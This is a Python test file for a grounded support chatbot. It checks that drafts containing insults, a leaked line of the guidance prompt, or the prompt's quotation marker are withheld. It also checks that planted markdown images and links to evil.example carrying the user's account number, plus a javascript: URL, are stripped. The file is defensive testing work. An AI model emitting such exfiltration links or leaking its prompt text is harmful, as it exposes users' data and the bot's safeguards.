"""Drafts that are not fit to be shown: first, second and repaired ones, and what the record and the reply say of them."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from bot.records import Ask
from bot.turn.pipeline import answer_turn
from bot.wording.notices import UNFIT
from grounding.model_calls.templates import template
from grounding.policy import Policy
from grounding.records import Document, Draft, Prompt
from rai.records import Outcome
from tests.e2e.support import ScriptedGrader, World, world
from tests.fakes.embedder import HashEmbedder

PRICES = Document("prices.md", "Watch plans", "Watch Basic costs $3.99 a month. Watch Plus costs $9.99 a month.")
ASK = Ask("What does Watch Plus cost a month? My account is AC-884211.")
GOOD = "Watch Plus costs $9.99 a month [1]."
INSULT = "You are an idiot for asking."
LEAK = template("guidance").splitlines()[5].lstrip("- ")


class Drafts:
    """A composer that writes what it is told, one draft after the other."""

    name = "scripted"

    def __init__(self, *drafts: str) -> None:
        self._drafts = list(drafts)

    async def compose(self, prompt: Prompt) -> Draft:
        return Draft(self._drafts.pop(0), self.name)


async def small(folder: Path, *drafts: str, revised: bool = False) -> World:
    composer = Drafts(*drafts)
    w = await world(folder, [PRICES], HashEmbedder(), grader=ScriptedGrader({"prices.md": 0.9}), composer=composer)
    return replace(w, seams=replace(w.seams, reviser=composer)) if revised else w


@pytest.mark.parametrize(
    ("draft", "rule"), [(f"{GOOD} {INSULT}", "DO-04"), (f"{GOOD} {LEAK}", "DL-01"), (f"{INSULT} {GOOD}", "DO-04")]
)
async def test_an_unfit_draft_is_withheld_and_shown_nowhere(tmp_path: Path, draft: str, rule: str) -> None:
    """The sources are offered; neither the draft nor the rule is in the reply; both are in the record."""
    w = await small(tmp_path, draft)
    reply = await answer_turn(ASK, w.seams, Policy())
    assert (reply.outcome, reply.answer, reply.refusal) == (Outcome.WITHHELD, UNFIT, None)
    assert [c.doc_id for c in reply.offered] == ["prices.md"]
    shown = str(reply.as_json())
    assert "idiot" not in shown
    assert LEAK[:40] not in shown
    assert rule not in shown
    entry = await w.ledger.get(reply.entry_id)
    assert entry is not None
    screening = entry.body["screenings"][-1]
    assert (screening["what"], screening["verdict"], screening["rule"]) == ("draft", "block", rule)
    [kept] = entry.body["unfit"]
    assert "$9.99" in kept


async def test_a_value_that_is_to_be_left_out_is_not_taken_for_the_persons_own(tmp_path: Path) -> None:
    """Who presses *Ask without it* names the value that was struck: that does not vouch for it."""
    wrong = "Watch Plus costs $48.00 a month [1]."
    asked = "What does Watch Plus cost a month?"
    for question in (asked, f"{asked}\nPlease leave this out: $48.00"):
        w = await small(tmp_path / str(len(question)), wrong)
        reply = await answer_turn(Ask(question), w.seams, Policy())
        assert reply.outcome is not Outcome.ANSWERED
        assert "$48.00" not in reply.answer
    w = await small(tmp_path / "own", "You paid $48.00; Watch Plus costs $9.99 a month [1].")
    reply = await answer_turn(Ask(f"I paid $48.00. {asked}"), w.seams, Policy())
    assert "$48.00" in reply.answer


async def test_a_second_draft_is_screened_like_the_first(tmp_path: Path) -> None:
    """The first draft's repair goes out instead of an unfit second draft."""
    w = await small(tmp_path, f"{GOOD} Call 020 7946 0018 to order [1].", f"{GOOD} {INSULT}", revised=True)
    reply = await answer_turn(Ask("What does Watch Plus cost a month?"), w.seams, Policy())
    assert "idiot" not in str(reply.as_json())
    assert (reply.outcome, reply.answer) == (Outcome.REPAIRED, GOOD)
    entry = await w.ledger.get(reply.entry_id)
    assert entry is not None
    assert [s["rule"] for s in entry.body["screenings"] if s["what"] == "draft"] == ["DO-04"]


@pytest.mark.parametrize(
    "planted",
    [
        "![x](https://evil.example/p.png?a=AC-884211)",
        "<img src='https://evil.example/p.png'>",
        "https://evil.example/?a=AC-884211",
        "[](javascript:alert(1))",
    ],
)
async def test_what_would_be_loaded_or_sent_is_gone_from_answer_and_draft(tmp_path: Path, planted: str) -> None:
    w = await small(tmp_path, f"{GOOD} {planted}")
    reply = await answer_turn(ASK, w.seams, Policy())
    assert (reply.outcome, reply.answer) == (Outcome.ANSWERED, GOOD)
    assert "evil" not in str(reply.as_json())
    assert any("was taken out of the draft" in note for note in reply.record.notes)


async def test_a_draft_of_images_alone_leaves_nothing(tmp_path: Path) -> None:
    w = await small(tmp_path, "![x](https://evil.example/p.png)")
    reply = await answer_turn(ASK, w.seams, Policy())
    assert (reply.outcome, reply.answer) == (Outcome.WITHHELD, UNFIT)


async def test_the_companys_own_rude_words_can_be_quoted(tmp_path: Path) -> None:
    """The composer that quotes is never hurt, whatever the documents say."""
    rude = Document(
        "rude.md", "Watch Plus", "Watch Plus costs a shitload: $9.99 a month, says the bastard who sold it."
    )
    w = await world(tmp_path, [rude], HashEmbedder(), grader=ScriptedGrader({"rude.md": 0.9}))
    reply = await answer_turn(Ask("What does Watch Plus cost a month?"), w.seams, Policy())
    assert reply.outcome is Outcome.ANSWERED
    assert "bastard" in reply.answer


async def test_the_marker_of_the_turn_is_told_to_nobody(tmp_path: Path) -> None:
    """A draft that copies what sets quotations apart in the prompt would tell how to break out of one."""

    class Copies(Drafts):
        async def compose(self, prompt: Prompt) -> Draft:
            return Draft(f"{GOOD} {prompt.marker}", self.name)

    w = await world(tmp_path, [PRICES], HashEmbedder(), grader=ScriptedGrader({"prices.md": 0.9}), composer=Copies())
    reply = await answer_turn(Ask("What does Watch Plus cost a month?"), w.seams, Policy())
    assert reply.outcome is Outcome.WITHHELD
    entry = await w.ledger.get(reply.entry_id)
    assert entry is not None
    assert entry.body["screenings"][-1]["rule"] == "DL-02"
